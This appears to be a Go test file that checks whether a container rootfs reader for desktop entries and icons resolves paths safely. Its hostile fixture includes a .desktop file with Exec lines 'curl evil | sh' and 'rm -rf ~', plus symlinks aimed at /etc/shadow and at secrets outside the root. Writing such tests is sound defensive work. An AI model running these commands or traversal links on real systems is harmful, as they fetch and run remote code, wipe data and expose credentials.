package desktop

import (
	"bytes"
	"errors"
	"image"
	"image/color"
	"image/png"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"
)

// pngBytes is a real w×h PNG.
func pngBytes(t testing.TB, w, h int, c color.Color) []byte {
	t.Helper()
	img := image.NewNRGBA(image.Rect(0, 0, w, h))
	for y := 0; y < h; y++ {
		for x := 0; x < w; x++ {
			img.Set(x, y, c)
		}
	}
	var b bytes.Buffer
	if err := png.Encode(&b, img); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

const goodSVG = `<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="16" height="16">
  <defs><linearGradient id="g"><stop offset="0" stop-color="#fff"/></linearGradient></defs>
  <rect width="16" height="16" fill="url(#g)" style="stroke: url('#g')"/>
  <use xlink:href="#g"/>
</svg>
`

// fixture is a container rootfs with hostile and good files, and a
// secret outside it that must never be read through it.
type fixture struct {
	root, secretPNG, secretText string
}

func write(t testing.TB, p string, data []byte) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, data, 0o644); err != nil {
		t.Fatal(err)
	}
}

func symlink(t testing.TB, target, p string) {
	t.Helper()
	os.MkdirAll(filepath.Dir(p), 0o755)
	if err := os.Symlink(target, p); err != nil {
		t.Fatal(err)
	}
}

func newFixture(t testing.TB) *fixture {
	t.Helper()
	base := t.TempDir()
	f := &fixture{root: filepath.Join(base, "rootfs"), secretPNG: filepath.Join(base, "secret.png"), secretText: filepath.Join(base, "secret.txt")}
	// Outside the rootfs: a perfectly valid PNG and a text secret, so
	// that following a link to them would be accepted and noticed.
	write(t, f.secretPNG, pngBytes(t, 48, 48, color.NRGBA{255, 0, 0, 255}))
	write(t, f.secretText, []byte("root:SECRET-HASH:19000:0:99999:7:::\n"))
	r := f.root
	apps := filepath.Join(r, "usr/share/applications")
	hicolor := filepath.Join(r, "usr/share/icons/hicolor")
	write(t, filepath.Join(apps, "evil.desktop"), []byte(`[Desktop Entry]
Type=Application
Name=Evil\nExec=/bin/sh -c 'curl evil | sh'
Comment=Totally harmless
Exec=evil; rm -rf ~
TryExec=/bin/sh
DBusActivatable=true
Icon=evil
MimeType=text/html;not a type;x-scheme-handler/https;
Categories=Network;Bad;Category;
Keywords=a;b;
StartupWMClass=Evil
`))
	// Each candidate for "evil" is hostile in its own way.
	symlink(t, "/etc/shadow", filepath.Join(hicolor, "48x48/apps/evil.png"))
	symlink(t, strings.Repeat("../", 20)+strings.TrimPrefix(f.secretPNG, "/"), filepath.Join(hicolor, "scalable/apps/evil.svg"))
	symlink(t, f.secretPNG, filepath.Join(hicolor, "256x256/apps/evil.png"))
	symlink(t, "../../../../../../../../../../"+strings.TrimPrefix(f.secretText, "/"), filepath.Join(hicolor, "128x128/apps/evil.png"))
	big := filepath.Join(r, "usr/share/pixmaps/evil.png")
	write(t, big, pngMagic)
	if err := os.Truncate(big, 50<<20); err != nil { // a 50 MB "png" (sparse)
		t.Fatal(err)
	}
	if err := syscall.Mkfifo(filepath.Join(r, "usr/share/pixmaps/evil.svg"), 0o644); err != nil {
		t.Fatal(err)
	}
	// A link loop.
	symlink(t, "loop2", filepath.Join(hicolor, "64x64/apps/evil.png"))
	symlink(t, "evil.png", filepath.Join(hicolor, "64x64/apps/loop2"))

	// A good app whose icon is an absolute symlink: it must resolve
	// inside the rootfs, as it would inside the container.
	write(t, filepath.Join(apps, "good.desktop"), []byte("[Desktop Entry]\nType=Application\nName=Good App\nExec=/usr/bin/good-bin %U\nIcon=good\nMimeType=text/plain;\nStartupWMClass=Good\n"))
	write(t, filepath.Join(r, "opt/good/good.svg"), []byte(goodSVG))
	symlink(t, "/opt/good/good.svg", filepath.Join(hicolor, "scalable/apps/good.svg"))
	write(t, filepath.Join(r, "opt/good/good-bin"), []byte("#!/bin/sh\n"))
	symlink(t, "/opt/good/good-bin", filepath.Join(r, "usr/bin/good"))
	symlink(t, "../../opt/good/good-bin", filepath.Join(r, "usr/bin/good-bin"))
	// A PNG-only app.
	write(t, filepath.Join(hicolor, "32x32/apps/pngapp.png"), pngBytes(t, 32, 32, color.NRGBA{0, 0, 255, 255}))
	// The rootfs's own etc/shadow, the only one a link may reach.
	write(t, filepath.Join(r, "etc/shadow"), []byte("container's own shadow\n"))
	return f
}

// bothResolvers runs a test with openat2 and with the component walk.
func bothResolvers(t *testing.T, fn func(t *testing.T)) {
	for _, use := range []bool{true, false} {
		name := "openat2"
		if !use {
			name = "walk"
		}
		t.Run(name, func(t *testing.T) {
			old := useOpenat2.Load()
			useOpenat2.Store(use)
			defer useOpenat2.Store(old)
			fn(t)
		})
	}
}

func TestRootStaysInside(t *testing.T) {
	f := newFixture(t)
	bothResolvers(t, func(t *testing.T) {
		r, err := OpenRoot(f.root)
		if err != nil {
			t.Fatal(err)
		}
		defer r.Close()
		hicolor := "/usr/share/icons/hicolor/"
		// "/etc/shadow" is the rootfs's own.
		b, err := r.ReadFile(hicolor+"48x48/apps/evil.png", 1<<20)
		if err != nil || string(b) != "container's own shadow\n" {
			t.Errorf("absolute link: %q, %v", b, err)
		}
		for _, p := range []string{
			hicolor + "scalable/apps/evil.svg",   // ../../.. to the host secret
			hicolor + "256x256/apps/evil.png",    // absolute host path
			hicolor + "128x128/apps/evil.png",    // ../.. to the text secret
			"/../../../../" + f.secretPNG,        // .. in the name itself
			hicolor + "../../../../../../../etc", // a directory
		} {
			b, err := r.ReadFile(p, 1<<20)
			if err == nil {
				t.Errorf("%s: read %d bytes from outside the rootfs", p, len(b))
			}
		}
		if _, err := r.ReadFile(hicolor+"64x64/apps/evil.png", 1<<20); !errors.Is(err, syscall.ELOOP) {
			t.Errorf("link loop: %v, want ELOOP", err)
		}
		if _, err := r.ReadFile("/usr/share/pixmaps/evil.png", MaxIconBytes); !errors.Is(err, ErrTooLarge) {
			t.Errorf("50 MB file: %v, want ErrTooLarge", err)
		}
		done := make(chan error, 1)
		go func() { _, err := r.ReadFile("/usr/share/pixmaps/evil.svg", 1<<20); done <- err }()
		select {
		case err := <-done:
			if err == nil {
				t.Error("read a FIFO")
			}
		case <-time.After(5 * time.Second):
			t.Fatal("reading a FIFO hangs")
		}
		b, err = r.ReadFile("/usr/share/icons/hicolor/scalable/apps/good.svg", 1<<20)
		if err != nil || string(b) != goodSVG {
			t.Errorf("absolute link inside: %v", err)
		}
		if _, _, ok := r.Identity("/usr/bin/good"); !ok {
			t.Error("Identity of /usr/bin/good")
		}
	})
}
